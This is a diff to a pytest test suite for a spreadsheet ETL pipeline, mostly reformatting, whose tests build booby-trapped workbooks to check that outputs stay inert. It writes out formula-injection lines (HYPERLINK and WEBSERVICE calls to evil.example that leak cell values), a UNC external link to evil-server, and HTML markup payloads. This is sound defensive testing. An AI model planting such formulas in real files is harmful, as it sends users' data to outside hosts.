@@ -2,10 +2,10 @@
 it ends with a status and a reason beside a good file that is loaded, memory stays under 1 GiB, what we
 hand back carries no live content, the bytes hashed, archived and parsed are the same, and overlapping
 runs process each file once."""
+
 from __future__ import annotations
 
 import hashlib
-import io
 import json
 import os
 import re
@@ -18,31 +18,55 @@ import zipfile
 from pathlib import Path
 
 import pytest
+from hostile import (
+    PAYLOADS,
+    VOLUNTEER_HEADER,
+    hotline_csv,
+    hotline_ticket,
+    html_span_bomb,
+    inline,
+    long_header_line_csv,
+    ods_repeat_bomb,
+    row_bomb_xlsx,
+    shared_strings_bomb_xlsx,
+    sparse_xlsx,
+    volunteer_csv,
+    xlsx_from_sheet_xml,
+)
 from hypothesis import example, given
 from hypothesis import strategies as st
 from openpyxl import Workbook
+from warehouse_helpers import query
 
 from etl.pipeline import discover, prepare, process_file
-from hostile import (PAYLOADS, VOLUNTEER_HEADER, hotline_csv, hotline_ticket, html_span_bomb, inline,
-                     long_header_line_csv, ods_repeat_bomb, row_bomb_xlsx, shared_strings_bomb_xlsx, sparse_xlsx,
-                     volunteer_csv, xlsx_from_sheet_xml)
-from warehouse_helpers import query
 
 GiB = 1 << 30
 MiB = 1 << 20
 STATUSES = {"accepted", "flagged", "rejected", "duplicate"}
-MEASURE = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
-           "print('MAXRSS_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); "
-           "sys.exit(r.returncode)")
+MEASURE = (
+    "import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
+    "print('MAXRSS_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); "
+    "sys.exit(r.returncode)"
+)
 
 
 def ingest_cli(settings, extra_env: dict | None = None, prefix: list[str] | None = None) -> tuple[dict, int, str]:
     """``python -m etl ingest`` in a process of its own; its outcomes by file, the peak RSS of it and of
     its reader children (KiB), and its output."""
-    env = {**os.environ, "SHARED_DIR": str(settings.shared_dir), "WAREHOUSE_URL": settings.warehouse_url,
-           "FILE_SETTLE_SECONDS": "0", **(extra_env or {})}
-    run = subprocess.run([sys.executable, "-c", MEASURE, *(prefix or []), sys.executable, "-m", "etl", "ingest"],
-                         env=env, capture_output=True, text=True, timeout=900)
+    env = {
+        **os.environ,
+        "SHARED_DIR": str(settings.shared_dir),
+        "WAREHOUSE_URL": settings.warehouse_url,
+        "FILE_SETTLE_SECONDS": "0",
+        **(extra_env or {}),
+    }
+    run = subprocess.run(
+        [sys.executable, "-c", MEASURE, *(prefix or []), sys.executable, "-m", "etl", "ingest"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=900,
+    )
     assert run.returncode == 0, run.stderr[-3000:]
     peak = int(re.search(r"MAXRSS_KB (\d+)", run.stderr)[1])
     outcomes = {}
@@ -105,6 +129,7 @@ def test_a_million_warnings_are_counted_not_kept(sqlite_settings):
 
 # --------------------------------------------------------------------- files that used to crash the run
 
+
 def formula_workbook(path: Path, *, cached: bool, text_formulas: bool, extra_column: bool, na_values: list) -> Path:
     """A 志愿服务 workbook with formula cells (with or without cached values), formula-looking text, an
     extra column and NA-like values."""
@@ -122,7 +147,7 @@ def formula_workbook(path: Path, *, cached: bool, text_formulas: bool, extra_col
         ws.append(row)
     ws["F7"] = "=SUM(F3:F6)"  # openpyxl writes formulas without cached values
     if text_formulas:
-        set_cell(ws["C4"], "=HYPERLINK(\"http://evil.example/\",\"x\")")
+        set_cell(ws["C4"], '=HYPERLINK("http://evil.example/","x")')
     if na_values:
         ws["G5"] = na_values[0]
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -131,23 +156,56 @@ def formula_workbook(path: Path, *, cached: bool, text_formulas: bool, extra_col
         with zipfile.ZipFile(path) as source:
             members = {i.filename: source.read(i.filename) for i in source.infolist()}
         sheet = members["xl/worksheets/sheet1.xml"]
-        members["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>SUM(F3:F6)</f><v></v>", b"<f>SUM(F3:F6)</f><v>134</v>") \
-            .replace(b"<f>SUM(F3:F6)</f></c>", b"<f>SUM(F3:F6)</f><v>134</v></c>")
+        members["xl/worksheets/sheet1.xml"] = sheet.replace(
+            b"<f>SUM(F3:F6)</f><v></v>", b"<f>SUM(F3:F6)</f><v>134</v>"
+        ).replace(b"<f>SUM(F3:F6)</f></c>", b"<f>SUM(F3:F6)</f><v>134</v></c>")
         with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
             for name, data in members.items():
                 target.writestr(name, data)
     return path
 
 
-@given(cached=st.booleans(), text_formulas=st.booleans(), extra_column=st.booleans(),
-       na_values=st.lists(st.sampled_from(["NA", "N/A", "#N/A", "null", "None", "-", "—", "", " ", "nan", "无",
-                                           True, False, -1, 10**20, 1e308, float("nan")]), max_size=3))
-def test_formulas_text_formulas_extra_columns_and_na_values_end_with_a_status(make_settings, cached, text_formulas,
-                                                                             extra_column, na_values):
+@given(
+    cached=st.booleans(),
+    text_formulas=st.booleans(),
+    extra_column=st.booleans(),
+    na_values=st.lists(
+        st.sampled_from(
+            [
+                "NA",
+                "N/A",
+                "#N/A",
+                "null",
+                "None",
+                "-",
+                "—",
+                "",
+                " ",
+                "nan",
+                "无",
+                True,
+                False,
+                -1,
+                10**20,
+                1e308,
+                float("nan"),
+            ]
+        ),
+        max_size=3,
+    ),
+)
+def test_formulas_text_formulas_extra_columns_and_na_values_end_with_a_status(
+    make_settings, cached, text_formulas, extra_column, na_values
+):
     settings = make_settings()
     prepare(settings)
-    formula_workbook(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.xlsx", cached=cached,
-                     text_formulas=text_formulas, extra_column=extra_column, na_values=na_values)
+    formula_workbook(
+        settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.xlsx",
+        cached=cached,
+        text_formulas=text_formulas,
+        extra_column=extra_column,
+        na_values=na_values,
+    )
     volunteer_csv(settings.inbox / "明山区" / "明山区_志愿服务_2022-03.csv", district="明山区")
     outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
     assert {o.status for o in outcomes.values()} <= STATUSES
@@ -161,8 +219,10 @@ def test_a_csv_field_over_128_kb_is_the_files_rejection(make_settings, size):
     settings = make_settings()
     prepare(settings)
     good = good_file(settings)
-    volunteer_csv(settings.inbox / "南芬区" / "南芬区_志愿服务_长字段.csv",
-                  extra=[["2022-03-05", "南芬区", "x" * size, "队", "创城", "1", "1", "南芬区"]])
+    volunteer_csv(
+        settings.inbox / "南芬区" / "南芬区_志愿服务_长字段.csv",
+        extra=[["2022-03-05", "南芬区", "x" * size, "队", "创城", "1", "1", "南芬区"]],
+    )
     outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
     assert outcomes[good].status == "accepted"
     bad = outcomes["南芬区/南芬区_志愿服务_长字段.csv"]
@@ -188,10 +248,12 @@ def test_a_dtd_beside_a_formula_error_is_rejected_not_a_crash(sqlite_settings):
     prepare(settings)
     good = good_file(settings)
     header = "".join(inline(f"{chr(65 + i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
-    xml = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY x "y">]><worksheet '
-           'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-           f'<row r="1">{header}</row><row r="2"><c r="F2" t="e"><f>1/0</f><v>#REF!</v></c></row>'
-           '</sheetData></worksheet>').encode()
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY x "y">]><worksheet '
+        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        f'<row r="1">{header}</row><row r="2"><c r="F2" t="e"><f>1/0</f><v>#REF!</v></c></row>'
+        "</sheetData></worksheet>"
+    ).encode()
     xlsx_from_sheet_xml(settings.inbox / "南芬区" / "南芬区_志愿服务_DTD.xlsx", xml)
     outcomes = {o.file: o for o in (process_file(k, settings) for k in discover(settings))}
     assert outcomes[good].status == "accepted"
@@ -216,6 +278,7 @@ def test_an_unreadable_file_is_rejected_and_the_others_go_on(sqlite_settings):
 
 # ------------------------------------------------------------------------------ what we hand back is safe
 
+
 def booby_trapped_workbook(path: Path, payloads: list[str], hyperlink: str | None, external_link: bool) -> Path:
     """A 志愿服务 workbook with live formulas that leak cell values, a hyperlink out, an external link to a
     UNC share and a defined name pointing there, and a value error (so its receipt copies it)."""
@@ -229,7 +292,7 @@ def booby_trapped_workbook(path: Path, payloads: list[str], hyperlink: str | Non
         ws.append(["2022-03-04", "南芬区", "南芬区文明办", f"南芬志愿{i}队", "创城", 30 + i, 10, "南芬区"])
     ws["F5"] = "三十"  # a value error: the receipt copies the workbook to point at F5
     ws["I3"] = '=HYPERLINK("http://evil.example/?leak="&B3,"点击")'
-    ws["I4"] = "=WEBSERVICE(\"http://evil.example/\"&C4)"
+    ws["I4"] = '=WEBSERVICE("http://evil.example/"&C4)'
     ws["I5"] = "='\\\\evil-server\\share\\[leak.xlsx]Sheet1'!A1"
     for i, payload in enumerate(payloads):
         ws.cell(row=6 + i, column=10, value=payload)
@@ -240,17 +303,24 @@ def booby_trapped_workbook(path: Path, payloads: list[str], hyperlink: str | Non
     wb.save(path)
     if external_link:
         with zipfile.ZipFile(path, "a") as archive:
-            archive.writestr("xl/externalLinks/externalLink1.xml",
-                             '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-                             '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
-                             'relationships" r:id="rId1"/></externalLink>')
-            archive.writestr("xl/externalLinks/_rels/externalLink1.xml.rels",
-                             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                             'relationships/externalLinkPath" Target="file:///\\\\evil-server\\share\\leak.xlsx" '
-                             'TargetMode="External"/></Relationships>')
-            archive.writestr("xl/connections.xml", '<connections xmlns="http://schemas.openxmlformats.org/'
-                             'spreadsheetml/2006/main"><connection id="1" name="q" type="4"/></connections>')
+            archive.writestr(
+                "xl/externalLinks/externalLink1.xml",
+                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships" r:id="rId1"/></externalLink>',
+            )
+            archive.writestr(
+                "xl/externalLinks/_rels/externalLink1.xml.rels",
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/externalLinkPath" Target="file:///\\\\evil-server\\share\\leak.xlsx" '
+                'TargetMode="External"/></Relationships>',
+            )
+            archive.writestr(
+                "xl/connections.xml",
+                '<connections xmlns="http://schemas.openxmlformats.org/'
+                'spreadsheetml/2006/main"><connection id="1" name="q" type="4"/></connections>',
+            )
             archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
     return path
 
@@ -270,16 +340,22 @@ def assert_inert(receipt: Path) -> None:
                 assert b"<definedName " not in data and b"evil-server" not in data
 
 
-@given(payloads=st.lists(st.sampled_from([p for p in PAYLOADS if "\x00" not in p]), max_size=4),  # openpyxl refuses NUL
-       hyperlink=st.sampled_from([None, "http://evil.example/a", "file://///evil-server/share/x.xlsx",
-                                  "\\\\evil-server\\share\\x.xlsx"]),
-       external_link=st.booleans(), suffix=st.sampled_from([".xlsx", ".xlsm"]))
-def test_receipts_carry_values_not_formulas_links_connections_or_macros(make_settings, payloads, hyperlink,
-                                                                        external_link, suffix):
+@given(
+    payloads=st.lists(st.sampled_from([p for p in PAYLOADS if "\x00" not in p]), max_size=4),  # openpyxl refuses NUL
+    hyperlink=st.sampled_from(
+        [None, "http://evil.example/a", "file://///evil-server/share/x.xlsx", "\\\\evil-server\\share\\x.xlsx"]
+    ),
+    external_link=st.booleans(),
+    suffix=st.sampled_from([".xlsx", ".xlsm"]),
+)
+def test_receipts_carry_values_not_formulas_links_connections_or_macros(
+    make_settings, payloads, hyperlink, external_link, suffix
+):
     settings = make_settings()
     prepare(settings)
-    booby_trapped_workbook(settings.inbox / "南芬区" / f"南芬区_志愿服务_2022-03{suffix}", payloads, hyperlink,
-                           external_link)
+    booby_trapped_workbook(
+        settings.inbox / "南芬区" / f"南芬区_志愿服务_2022-03{suffix}", payloads, hyperlink, external_link
+    )
     outcome = process_file(discover(settings)[0], settings)
     assert outcome.status == "rejected"
     receipt = settings.shared_dir / outcome.receipt
@@ -292,8 +368,11 @@ def test_receipts_carry_values_not_formulas_links_connections_or_macros(make_set
     assert sheet["F5"].fill.fgColor.rgb.endswith("FFC7CE")  # the problem cell is still marked
 
 
-MARKUP = st.builds(lambda tag, text: f'<{tag} data-clerk="{text}">', st.sampled_from(["img", "b", "svg", "a", "iframe"]),
-                   st.text(alphabet="<>&\"' =abc/", max_size=8))
+MARKUP = st.builds(
+    lambda tag, text: f'<{tag} data-clerk="{text}">',
+    st.sampled_from(["img", "b", "svg", "a", "iframe"]),
+    st.text(alphabet="<>&\"' =abc/", max_size=8),
+)
 
 
 @given(payloads=st.lists(st.sampled_from([p for p in PAYLOADS if "<" in p]) | MARKUP, min_size=1, max_size=4))
@@ -304,8 +383,10 @@ def test_clerk_values_are_escaped_on_data_docs_pages_and_the_stewards_page(make_
 
     settings = make_settings()
     prepare(settings)
-    rows = [[f"2022-03-0{i + 1}", "南芬区", payload, f"队{i}", payload, "30", "10", payload]
-            for i, payload in enumerate(payloads)]  # 活动类型 outside its list: a GX finding quoting the value
+    rows = [
+        [f"2022-03-0{i + 1}", "南芬区", payload, f"队{i}", payload, "30", "10", payload]
+        for i, payload in enumerate(payloads)
+    ]  # 活动类型 outside its list: a GX finding quoting the value
     volunteer_csv(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.csv", rows=1, extra=rows)
     outcome = process_file(discover(settings)[0], settings)
     assert outcome.docs_page, outcome
@@ -319,11 +400,13 @@ def test_clerk_values_are_escaped_on_data_docs_pages_and_the_stewards_page(make_
 
 # ------------------------------------------------------------------ the same bytes: hashed, archived, parsed
 
+
 def test_a_file_that_grows_while_it_is_processed_is_parsed_as_archived(sqlite_settings):
     settings = sqlite_settings
     prepare(settings)
-    path = hotline_csv(settings.inbox / "明山区" / "明山区_12345热线工单_2021-09.csv",
-                       [hotline_ticket(i) for i in range(1, 3001)])
+    path = hotline_csv(
+        settings.inbox / "明山区" / "明山区_12345热线工单_2021-09.csv", [hotline_ticket(i) for i in range(1, 3001)]
+    )
     stop = threading.Event()
     handle = path.open("a", encoding="utf-8")  # the clerk's copy tool, still appending through its descriptor
 
@@ -354,15 +437,24 @@ def test_a_file_that_grows_while_it_is_processed_is_parsed_as_archived(sqlite_se
 
 # ------------------------------------------------------------------------------------ overlapping runs
 
+
 def test_two_overlapping_runs_process_every_file_once(settings):
     from demo import write_demo_files
 
     prepare(settings)
     files = write_demo_files(settings.shared_dir)
-    env = {**os.environ, "SHARED_DIR": str(settings.shared_dir), "WAREHOUSE_URL": settings.warehouse_url,
-           "FILE_SETTLE_SECONDS": "0"}
-    runs = [subprocess.Popen([sys.executable, "-m", "etl", "ingest"], env=env, stdout=subprocess.PIPE,
-                             stderr=subprocess.PIPE, text=True) for _ in range(2)]
+    env = {
+        **os.environ,
+        "SHARED_DIR": str(settings.shared_dir),
+        "WAREHOUSE_URL": settings.warehouse_url,
+        "FILE_SETTLE_SECONDS": "0",
+    }
+    runs = [
+        subprocess.Popen(
+            [sys.executable, "-m", "etl", "ingest"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+        )
+        for _ in range(2)
+    ]
     results = [run.communicate(timeout=900) for run in runs]
     assert all(run.returncode == 0 for run in runs), [err[-2000:] for _, err in results]
     summaries = [json.loads(out.strip().splitlines()[-1].replace("'", '"')) for out, _ in results]
@@ -382,11 +474,17 @@ def test_a_nul_escaped_in_workbook_xml_is_a_finding_on_its_cell(sqlite_settings)
     settings = sqlite_settings
     prepare(settings)
     header = "".join(inline(f"{chr(65 + i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
-    row = "".join(inline(f"{chr(65 + i)}2", v) for i, v in enumerate(
-        ["2022-03-04", "南芬区", "南芬区文明办", "南芬志愿_x0000_队", "创城", "30", "10", "南芬区"]))
-    xml = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
-           f'spreadsheetml/2006/main"><sheetData><row r="1">{header}</row><row r="2">{row}</row></sheetData>'
-           '</worksheet>').encode()
+    row = "".join(
+        inline(f"{chr(65 + i)}2", v)
+        for i, v in enumerate(
+            ["2022-03-04", "南芬区", "南芬区文明办", "南芬志愿_x0000_队", "创城", "30", "10", "南芬区"]
+        )
+    )
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+        f'spreadsheetml/2006/main"><sheetData><row r="1">{header}</row><row r="2">{row}</row></sheetData>'
+        "</worksheet>"
+    ).encode()
     xlsx_from_sheet_xml(settings.inbox / "南芬区" / "南芬区_志愿服务_2022-03.xlsx", xml)
     outcome = process_file(discover(settings)[0], settings)
     assert outcome.status == "rejected"
